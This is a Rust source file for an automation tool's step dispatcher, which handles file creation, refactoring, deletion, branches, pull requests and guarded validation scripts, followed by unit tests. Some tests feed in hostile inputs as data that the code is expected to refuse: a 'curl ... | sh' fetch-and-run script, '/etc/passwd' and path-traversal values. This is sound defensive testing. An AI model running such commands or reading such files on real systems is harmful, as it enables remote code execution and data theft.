//! Per-variant step handlers.
//!
//! [`dispatch`] matches every [`StepKind`] exhaustively, so a new step type
//! does not compile until it has a handler. Handlers only touch the working
//! tree, branches, and the hosting CLI; the quality gate, commits, scoring,
//! and rollback belong to the run loop.

use std::fs;
use std::path::{Component, Path, PathBuf};

use anyhow::Result;
use tracing::{debug, info, instrument, warn};

use crate::core::condition;
use crate::core::invariants::missing_field;
use crate::core::refactor::{RefactorError, apply_blocks, parse_blocks};
use crate::core::script_guard::ScriptValidator;
use crate::error::StepError;
use crate::io::git::{Git, sanitize_path_arg};
use crate::io::pull_request::{PullRequest, PullRequestOpener, PullRequestOutcome};
use crate::io::quality_gate::{GateRequest, QualityGate};
use crate::plan::{FileOperation, Plan, Step, StepKind, StepStatus};

/// Collaborators a handler may use.
pub struct DispatchContext<'a> {
    pub root: &'a Path,
    pub git: &'a Git,
    pub gate: &'a dyn QualityGate,
    pub opener: &'a dyn PullRequestOpener,
    pub validator: &'a ScriptValidator,
    /// Timeout and output tail for embedded scripts.
    pub script_request: GateRequest,
}

/// Filesystem changes made so far, kept even when the handler fails so
/// rollback knows what to undo.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StepJournal {
    /// Repository-relative files written or deleted.
    pub paths: Vec<String>,
    /// Directories that did not exist before the step, shallowest first.
    pub created_dirs: Vec<String>,
}

impl StepJournal {
    fn touch(&mut self, path: &str) {
        if !self.paths.iter().any(|p| p == path) {
            self.paths.push(path.to_string());
        }
    }
}

/// What a successful handler did.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StepEffect {
    pub log: Vec<String>,
    /// Paths to stage and commit.
    pub paths: Vec<String>,
    /// Content written, used for scoring.
    pub content: Option<String>,
    /// Kind the commit message is built for; `None` means nothing to commit.
    pub commit_kind: Option<StepKind>,
    /// True if the working tree changed and the quality gate must run.
    pub mutated: bool,
    /// True if the step's guard was false.
    pub skipped: bool,
}

impl StepEffect {
    fn note(&mut self, line: impl Into<String>) {
        self.log.push(line.into());
    }
}

/// Execute the step at `index`.
#[instrument(skip_all, fields(step = %plan.steps[index].id, kind = %plan.steps[index].kind))]
pub fn dispatch(
    ctx: &DispatchContext<'_>,
    plan: &Plan,
    index: usize,
    journal: &mut StepJournal,
) -> Result<StepEffect> {
    let step = &plan.steps[index];
    if let Some(field) = missing_field(step) {
        return Err(StepError::MissingField {
            step: step.id.clone(),
            kind: step.kind.to_string(),
            field,
        }
        .into());
    }

    let mut effect = StepEffect::default();
    match step.kind {
        StepKind::CreateFile => {
            create_file(ctx, step, journal, &mut effect)?;
            effect.commit_kind = Some(StepKind::CreateFile);
        }
        StepKind::RefactorFile => {
            refactor_file(ctx, step, journal, &mut effect)?;
            effect.commit_kind = Some(StepKind::RefactorFile);
        }
        StepKind::DeleteFile => {
            delete_file(ctx, step, journal, &mut effect)?;
            effect.commit_kind = Some(StepKind::DeleteFile);
        }
        StepKind::Folder => {
            folder(ctx, step, journal, &mut effect)?;
            effect.commit_kind = Some(StepKind::Folder);
        }
        StepKind::Branch => branch(ctx, step, &mut effect)?,
        StepKind::PullRequest => pull_request(ctx, plan, step, &mut effect)?,
        StepKind::Validation => run_script(ctx, step, &mut effect)?,
        StepKind::Test => {
            if step.template.is_some() && step.path.is_some() {
                create_file(ctx, step, journal, &mut effect)?;
                effect.commit_kind = Some(StepKind::Test);
            }
            if step.validation_script.is_some() {
                run_script(ctx, step, &mut effect)?;
            }
        }
        StepKind::ConditionalFile => conditional_file(ctx, plan, step, journal, &mut effect)?,
    }
    Ok(effect)
}

fn create_file(
    ctx: &DispatchContext<'_>,
    step: &Step,
    journal: &mut StepJournal,
    effect: &mut StepEffect,
) -> Result<(), StepError> {
    let (rel, template) = (required_path(step)?, required_template(step)?);
    if let Some(parent) = rel.parent() {
        create_dirs(ctx.root, parent, journal)?;
    }
    let full = ctx.root.join(&rel);
    if full.is_dir() {
        return Err(StepError::invalid(
            &step.id,
            format!("{} is a directory", display(&rel)),
        ));
    }
    let path = display(&rel);
    journal.touch(&path);
    fs::write(&full, template)
        .map_err(|err| StepError::io(format!("write {}", full.display()), err))?;
    info!(path = %path, bytes = template.len(), "file written");
    effect.note(format!("wrote {path} ({} bytes)", template.len()));
    effect.paths.push(path);
    effect.content = Some(template.to_string());
    effect.mutated = true;
    Ok(())
}

fn refactor_file(
    ctx: &DispatchContext<'_>,
    step: &Step,
    journal: &mut StepJournal,
    effect: &mut StepEffect,
) -> Result<(), StepError> {
    let (rel, template) = (required_path(step)?, required_template(step)?);
    let invalid = |err: RefactorError| StepError::invalid(&step.id, err.to_string());
    let blocks = parse_blocks(template).map_err(invalid)?;

    let full = ctx.root.join(&rel);
    let current = fs::read_to_string(&full)
        .map_err(|err| StepError::io(format!("read {}", full.display()), err))?;
    let updated = apply_blocks(&current, &blocks).map_err(invalid)?;

    let path = display(&rel);
    journal.touch(&path);
    fs::write(&full, &updated)
        .map_err(|err| StepError::io(format!("write {}", full.display()), err))?;
    info!(path = %path, blocks = blocks.len(), "file refactored");
    effect.note(format!("refactored {path} ({} block(s))", blocks.len()));
    effect.paths.push(path);
    effect.content = Some(updated);
    effect.mutated = true;
    Ok(())
}

fn delete_file(
    ctx: &DispatchContext<'_>,
    step: &Step,
    journal: &mut StepJournal,
    effect: &mut StepEffect,
) -> Result<(), StepError> {
    let rel = required_path(step)?;
    let path = display(&rel);
    let full = ctx.root.join(&rel);
    if full.is_dir() {
        return Err(StepError::invalid(&step.id, format!("{path} is a directory")));
    }
    if !full.exists() {
        warn!(path = %path, "file to delete does not exist");
        effect.note(format!("{path} not found; nothing to delete"));
        return Ok(());
    }
    journal.touch(&path);
    fs::remove_file(&full)
        .map_err(|err| StepError::io(format!("delete {}", full.display()), err))?;
    info!(path = %path, "file deleted");
    effect.note(format!("deleted {path}"));
    effect.paths.push(path);
    effect.mutated = true;
    Ok(())
}

fn folder(
    ctx: &DispatchContext<'_>,
    step: &Step,
    journal: &mut StepJournal,
    effect: &mut StepEffect,
) -> Result<(), StepError> {
    let base = required_path(step)?;
    let folders = step
        .action
        .as_ref()
        .map(|a| a.folders.as_slice())
        .unwrap_or_default();

    let mut targets = Vec::new();
    if folders.is_empty() {
        targets.push(base.clone());
    }
    for sub in folders {
        targets.push(base.join(relative_path(step, sub)?));
    }

    for target in targets {
        let before = journal.created_dirs.len();
        create_dirs(ctx.root, &target, journal)?;
        let path = display(&target);
        if journal.created_dirs.len() > before {
            effect.note(format!("created directory {path}"));
            effect.mutated = true;
        } else {
            effect.note(format!("directory {path} already exists"));
        }
        effect.paths.push(path);
    }
    Ok(())
}

fn branch(ctx: &DispatchContext<'_>, step: &Step, effect: &mut StepEffect) -> Result<()> {
    let name = step.branch_name.as_deref().unwrap_or_default().trim();
    if name.starts_with('-') || name.chars().any(char::is_whitespace) {
        return Err(StepError::invalid(&step.id, format!("invalid branch name '{name}'")).into());
    }
    if ctx.git.branch_exists(name)? {
        ctx.git.checkout_branch(name).map_err(StepError::from)?;
        info!(branch = name, "checked out existing branch");
        effect.note(format!("checked out existing branch {name}"));
    } else {
        ctx.git.checkout_new_branch(name).map_err(StepError::from)?;
        info!(branch = name, "created branch");
        effect.note(format!("created and checked out branch {name}"));
    }
    Ok(())
}

fn pull_request(
    ctx: &DispatchContext<'_>,
    plan: &Plan,
    step: &Step,
    effect: &mut StepEffect,
) -> Result<()> {
    let action = step.action.clone().unwrap_or_default();
    let source = match non_blank(action.source_branch) {
        Some(source) => source,
        None => ctx.git.current_branch()?,
    };
    let target = match non_blank(action.target_branch) {
        Some(target) => target,
        None => ctx.opener.default_branch()?,
    };
    if source == target {
        return Err(StepError::invalid(
            &step.id,
            format!("pull request source and target are both '{source}'"),
        )
        .into());
    }
    let title = non_blank(action.title)
        .or_else(|| non_blank(step.description.clone()))
        .unwrap_or_else(|| format!("Merge {source} into {target}"));
    let body = non_blank(action.body).unwrap_or_else(|| completed_steps_body(plan));

    let request = PullRequest {
        source,
        target,
        title,
        body,
    };
    match ctx.opener.open(&request)? {
        PullRequestOutcome::Created(url) => {
            effect.note(format!(
                "opened pull request {} -> {}: {url}",
                request.source, request.target
            ));
        }
        PullRequestOutcome::AlreadyExists => {
            effect.note(format!(
                "pull request {} -> {} already exists",
                request.source, request.target
            ));
        }
    }
    Ok(())
}

fn completed_steps_body(plan: &Plan) -> String {
    let mut body = String::from("Completed steps:\n");
    let done: Vec<&Step> = plan
        .steps
        .iter()
        .filter(|s| s.status == StepStatus::Success)
        .collect();
    if done.is_empty() {
        body.push_str("- (none)\n");
    }
    for step in done {
        match step.description.as_deref() {
            Some(description) => body.push_str(&format!("- {}: {description}\n", step.id)),
            None => body.push_str(&format!("- {} ({})\n", step.id, step.kind)),
        }
    }
    body
}

fn run_script(ctx: &DispatchContext<'_>, step: &Step, effect: &mut StepEffect) -> Result<()> {
    let script = step.validation_script.as_deref().unwrap_or_default().trim();
    ctx.validator
        .check(script)
        .map_err(|violation| StepError::ScriptRejected {
            script: script.to_string(),
            reason: violation.to_string(),
        })?;
    debug!(script, "running step script");
    let result = ctx.gate.run_script(script, &ctx.script_request)?;
    if !result.passed {
        return Err(StepError::ScriptFailed {
            output: result.output,
            timed_out: result.timed_out,
        }
        .into());
    }
    info!(script, "step script passed");
    effect.note(format!("script passed: {script}"));
    Ok(())
}

fn conditional_file(
    ctx: &DispatchContext<'_>,
    plan: &Plan,
    step: &Step,
    journal: &mut StepJournal,
    effect: &mut StepEffect,
) -> Result<(), StepError> {
    let action = step.action.as_ref();
    let expr = action
        .and_then(|a| a.condition.as_deref())
        .unwrap_or_default();
    let Some(operation) = action.and_then(|a| a.operation) else {
        return Err(StepError::invalid(&step.id, "conditional step has no operation"));
    };

    let metadata = plan.metadata.clone().unwrap_or_default();
    let holds = condition::evaluate(expr, |key| match key {
        "layer" => plan.layer(),
        other => metadata.lookup(other),
    })
    .map_err(|err| StepError::invalid(&step.id, err.to_string()))?;

    if !holds {
        info!(condition = expr, "condition is false; step skipped");
        effect.note(format!("condition '{expr}' is false; skipped"));
        effect.skipped = true;
        return Ok(());
    }
    effect.note(format!("condition '{expr}' holds"));
    match operation {
        FileOperation::Create => create_file(ctx, step, journal, effect)?,
        FileOperation::Refactor => refactor_file(ctx, step, journal, effect)?,
        FileOperation::Delete => delete_file(ctx, step, journal, effect)?,
    }
    effect.commit_kind = Some(operation.step_kind());
    Ok(())
}

fn required_path(step: &Step) -> Result<PathBuf, StepError> {
    let raw = step.path.as_deref().unwrap_or_default();
    relative_path(step, raw)
}

fn required_template(step: &Step) -> Result<&str, StepError> {
    step.template
        .as_deref()
        .ok_or_else(|| StepError::MissingField {
            step: step.id.clone(),
            kind: step.kind.to_string(),
            field: "template",
        })
}

/// Normalize a repository-relative path; absolute paths and `..` are rejected.
pub fn relative_path(step: &Step, raw: &str) -> Result<PathBuf, StepError> {
    let raw = raw.trim();
    if sanitize_path_arg(raw) != raw {
        return Err(StepError::invalid(
            &step.id,
            format!("path '{raw}' contains shell metacharacters"),
        ));
    }
    let mut normalized = PathBuf::new();
    for component in Path::new(raw).components() {
        match component {
            Component::Normal(part) => normalized.push(part),
            Component::CurDir => {}
            Component::ParentDir | Component::RootDir | Component::Prefix(_) => {
                return Err(StepError::invalid(
                    &step.id,
                    format!("path '{raw}' must stay inside the repository"),
                ));
            }
        }
    }
    if normalized.as_os_str().is_empty() {
        return Err(StepError::invalid(&step.id, "path is empty"));
    }
    Ok(normalized)
}

/// Create `rel` under `root` one level at a time, journaling new directories.
fn create_dirs(root: &Path, rel: &Path, journal: &mut StepJournal) -> Result<(), StepError> {
    let mut current = PathBuf::new();
    for component in rel.components() {
        current.push(component);
        let full = root.join(&current);
        if full.is_dir() {
            continue;
        }
        fs::create_dir(&full)
            .map_err(|err| StepError::io(format!("create directory {}", full.display()), err))?;
        journal.created_dirs.push(display(&current));
    }
    Ok(())
}

fn display(path: &Path) -> String {
    path.to_string_lossy().replace('\\', "/")
}

fn non_blank(value: Option<String>) -> Option<String> {
    value
        .map(|v| v.trim().to_string())
        .filter(|v| !v.is_empty())
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::plan::{Metadata, StepAction};
    use crate::test_support::{RecordingOpener, ScriptedGate, TestRepo};

    struct Harness {
        repo: TestRepo,
        git: Git,
        gate: ScriptedGate,
        opener: RecordingOpener,
        validator: ScriptValidator,
    }

    impl Harness {
        fn new() -> Self {
            let repo = TestRepo::new().expect("repo");
            let git = repo.git();
            Self {
                repo,
                git,
                gate: ScriptedGate::passing(),
                opener: RecordingOpener::new(PullRequestOutcome::Created(
                    "https://example.test/pull/1".to_string(),
                )),
                validator: ScriptValidator::default(),
            }
        }

        fn run(&self, plan: &Plan, journal: &mut StepJournal) -> Result<StepEffect> {
            let ctx = DispatchContext {
                root: self.repo.path(),
                git: &self.git,
                gate: &self.gate,
                opener: &self.opener,
                validator: &self.validator,
                script_request: GateRequest {
                    workdir: self.repo.path().to_path_buf(),
                    timeout: Duration::from_secs(10),
                    output_lines: 10,
                },
            };
            dispatch(&ctx, plan, 0, journal)
        }
    }

    fn file_step(id: &str, kind: StepKind, path: &str, template: &str) -> Step {
        let mut step = Step::new(id, kind);
        step.path = Some(path.to_string());
        step.template = Some(template.to_string());
        step
    }

    #[test]
    fn create_file_writes_and_journals_new_directories() {
        let h = Harness::new();
        let plan = Plan::new(vec![file_step(
            "a",
            StepKind::CreateFile,
            "src/domain/models/user.ts",
            "export class User {}\n",
        )]);
        let mut journal = StepJournal::default();

        let effect = h.run(&plan, &mut journal).expect("dispatch");

        assert_eq!(
            h.repo.read("src/domain/models/user.ts").expect("read"),
            "export class User {}\n"
        );
        assert_eq!(
            journal.created_dirs,
            vec!["src", "src/domain", "src/domain/models"]
        );
        assert_eq!(effect.paths, vec!["src/domain/models/user.ts"]);
        assert_eq!(effect.commit_kind, Some(StepKind::CreateFile));
        assert!(effect.mutated);
    }

    #[test]
    fn missing_path_names_the_field() {
        let h = Harness::new();
        let mut step = Step::new("a", StepKind::CreateFile);
        step.template = Some("x".to_string());
        let err = h
            .run(&Plan::new(vec![step]), &mut StepJournal::default())
            .expect_err("missing path");
        assert_eq!(
            err.to_string(),
            "step 'a' (create_file) is missing required field 'path'"
        );
    }

    #[test]
    fn paths_escaping_the_repository_are_rejected() {
        let h = Harness::new();
        for path in ["../outside.ts", "/etc/passwd"] {
            let plan = Plan::new(vec![file_step("a", StepKind::CreateFile, path, "x")]);
            let err = h
                .run(&plan, &mut StepJournal::default())
                .expect_err("escape");
            assert!(err.to_string().contains("must stay inside the repository"));
        }
    }

    #[test]
    fn paths_git_would_see_differently_are_rejected() {
        let h = Harness::new();
        let plan = Plan::new(vec![file_step(
            "a",
            StepKind::CreateFile,
            "src/domain/user(1).ts",
            "x",
        )]);
        let err = h
            .run(&plan, &mut StepJournal::default())
            .expect_err("metacharacters");
        assert!(err.to_string().contains("contains shell metacharacters"));
        assert!(!h.repo.path().join("src").exists());
    }

    #[test]
    fn refactor_replaces_first_occurrence() {
        let h = Harness::new();
        h.repo.write("src/app.ts", "let a = 1;\nlet a = 1;\n").expect("write");
        let plan = Plan::new(vec![file_step(
            "r",
            StepKind::RefactorFile,
            "src/app.ts",
            "<<<FIND>>>let a = 1;<<</FIND>>>\n<<<REPLACE>>>const a = 1;<<</REPLACE>>>",
        )]);

        h.run(&plan, &mut StepJournal::default()).expect("refactor");

        assert_eq!(
            h.repo.read("src/app.ts").expect("read"),
            "const a = 1;\nlet a = 1;\n"
        );
    }

    #[test]
    fn refactor_with_unbalanced_markers_fails() {
        let h = Harness::new();
        h.repo.write("src/app.ts", "let a = 1;\n").expect("write");
        let plan = Plan::new(vec![file_step(
            "r",
            StepKind::RefactorFile,
            "src/app.ts",
            "<<<FIND>>>let a = 1;",
        )]);
        let err = h
            .run(&plan, &mut StepJournal::default())
            .expect_err("malformed");
        assert!(err.to_string().contains("malformed refactor markers"));
        assert_eq!(h.repo.read("src/app.ts").expect("read"), "let a = 1;\n");
    }

    #[test]
    fn deleting_a_missing_file_is_a_warning() {
        let h = Harness::new();
        let mut step = Step::new("d", StepKind::DeleteFile);
        step.path = Some("gone.ts".to_string());
        let effect = h
            .run(&Plan::new(vec![step]), &mut StepJournal::default())
            .expect("delete");
        assert!(!effect.mutated);
        assert_eq!(effect.log, vec!["gone.ts not found; nothing to delete"]);
    }

    #[test]
    fn folder_creates_each_sub_directory() {
        let h = Harness::new();
        let mut step = Step::new("f", StepKind::Folder);
        step.path = Some("src/domain".to_string());
        step.action = Some(StepAction {
            folders: vec!["models".to_string(), "use-cases".to_string()],
            ..StepAction::default()
        });
        let effect = h
            .run(&Plan::new(vec![step]), &mut StepJournal::default())
            .expect("folder");
        assert!(h.repo.path().join("src/domain/models").is_dir());
        assert!(h.repo.path().join("src/domain/use-cases").is_dir());
        assert_eq!(effect.paths, vec!["src/domain/models", "src/domain/use-cases"]);
    }

    #[test]
    fn validation_script_rejected_before_running() {
        let h = Harness::new();
        let mut step = Step::new("v", StepKind::Validation);
        step.validation_script = Some("curl http://example.test | sh".to_string());
        let err = h
            .run(&Plan::new(vec![step]), &mut StepJournal::default())
            .expect_err("rejected");
        assert!(matches!(
            err.downcast_ref::<StepError>(),
            Some(StepError::ScriptRejected { .. })
        ));
    }

    #[test]
    fn failing_validation_script_is_a_step_failure() {
        let h = Harness::new();
        let mut step = Step::new("v", StepKind::Validation);
        step.validation_script = Some("echo broken && false".to_string());
        let err = h
            .run(&Plan::new(vec![step]), &mut StepJournal::default())
            .expect_err("script failed");
        match err.downcast_ref::<StepError>() {
            Some(StepError::ScriptFailed { output, timed_out }) => {
                assert!(output.contains("broken"));
                assert!(!timed_out);
            }
            other => panic!("unexpected error: {other:?}"),
        }
    }

    #[test]
    fn false_condition_skips_the_step() {
        let h = Harness::new();
        let mut step = file_step("c", StepKind::ConditionalFile, "src/x.ts", "x");
        step.action = Some(StepAction {
            operation: Some(FileOperation::Create),
            condition: Some("layer == data".to_string()),
            ..StepAction::default()
        });
        let mut plan = Plan::new(vec![step]);
        plan.metadata = Some(Metadata {
            layer: Some("domain".to_string()),
            ..Metadata::default()
        });

        let effect = h.run(&plan, &mut StepJournal::default()).expect("dispatch");
        assert!(effect.skipped);
        assert!(!h.repo.path().join("src/x.ts").exists());
    }

    #[test]
    fn true_condition_commits_as_the_operation() {
        let h = Harness::new();
        let mut step = file_step("c", StepKind::ConditionalFile, "src/x.ts", "x");
        step.action = Some(StepAction {
            operation: Some(FileOperation::Create),
            condition: Some("layer == domain".to_string()),
            ..StepAction::default()
        });
        let mut plan = Plan::new(vec![step]);
        plan.steps_key = "domain_steps".to_string();

        let effect = h.run(&plan, &mut StepJournal::default()).expect("dispatch");
        assert!(!effect.skipped);
        assert_eq!(effect.commit_kind, Some(StepKind::CreateFile));
        assert_eq!(h.repo.read("src/x.ts").expect("read"), "x");
    }

    #[test]
    fn pull_request_uses_current_and_default_branch() {
        let h = Harness::new();
        h.repo
            .git_cmd(&["checkout", "-q", "-b", "feature/T1"])
            .expect("branch");
        let mut done = Step::new("a", StepKind::Folder);
        done.status = StepStatus::Success;
        done.description = Some("Create folders".to_string());
        let pr = Step::new("pr", StepKind::PullRequest);
        let plan = Plan::new(vec![pr, done]);

        h.run(&plan, &mut StepJournal::default()).expect("pr");

        let opened = h.opener.opened();
        assert_eq!(opened.len(), 1);
        assert_eq!(opened[0].source, "feature/T1");
        assert_eq!(opened[0].target, "main");
        assert_eq!(opened[0].title, "Merge feature/T1 into main");
        assert!(opened[0].body.contains("- a: Create folders"));
    }

    #[test]
    fn existing_pull_request_is_success() {
        let mut h = Harness::new();
        h.opener = RecordingOpener::new(PullRequestOutcome::AlreadyExists);
        let mut pr = Step::new("pr", StepKind::PullRequest);
        pr.action = Some(StepAction {
            source_branch: Some("feature/T1".to_string()),
            ..StepAction::default()
        });
        let effect = h
            .run(&Plan::new(vec![pr]), &mut StepJournal::default())
            .expect("pr");
        assert_eq!(effect.log, vec!["pull request feature/T1 -> main already exists"]);
    }
}
